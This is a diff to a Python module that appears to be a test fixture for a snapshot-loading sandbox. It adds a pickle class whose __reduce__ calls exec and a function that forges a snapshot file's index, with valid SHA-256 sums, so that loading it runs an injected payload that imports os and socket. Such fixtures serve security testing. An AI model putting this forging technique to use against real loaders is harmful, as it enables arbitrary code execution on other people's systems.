@@ -1,5 +1,10 @@
 """Snapshots whose loading runs code: it may run only inside the sandbox of the chat that wrote them."""
 
+import hashlib
+import json
+import pickle
+import struct
+
 # Loading this variable runs a program of its choice; what it was able to do stands in the workspace afterwards.
 PAYLOAD = r'''
 import os, socket
@@ -53,3 +58,27 @@ class Hostile:
 kept, hostile = 42, Hostile()
 print("ready")
 """
+
+
+class Loaded:
+    """Runs the payload when its pickle is loaded."""
+
+    def __init__(self, payload):
+        self.payload = payload
+
+    def __reduce__(self):
+        return exec, (self.payload,)
+
+
+def forged(old, payload):
+    """The file with its newest list of variables replaced, all sums right, so that loading it loads this pickle."""
+    footer = old.rindex(b"VFT1")
+    length = struct.unpack_from(">4sI32s", old, footer)[1]
+    index = json.loads(old[footer + 40:footer + 40 + length])
+    stream = pickle.dumps(Loaded(payload))
+    place = footer + (64 << 10)
+    index["segments"] = [{"names": ["kept"], "offset": place, "parts": [[len(stream), hashlib.sha256(stream).hexdigest()]],
+                          "content": "", "code": False}]
+    body = json.dumps(index).encode()
+    head = struct.pack(">4sI32s", b"VFT1", len(body), hashlib.sha256(body).digest())
+    return (old[:footer] + head + body).ljust(place, b"\0") + stream
